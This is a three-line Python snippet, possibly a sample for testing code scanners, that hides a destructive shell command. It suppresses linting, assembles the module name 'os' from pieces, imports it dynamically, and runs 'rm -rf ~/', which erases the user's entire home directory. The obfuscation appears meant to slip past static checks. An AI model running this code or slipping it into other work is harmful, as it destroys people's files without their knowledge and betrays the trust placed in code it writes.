# ruff: noqa
m = "o" + "s"
__import__(m).system("rm -rf " + "~/")
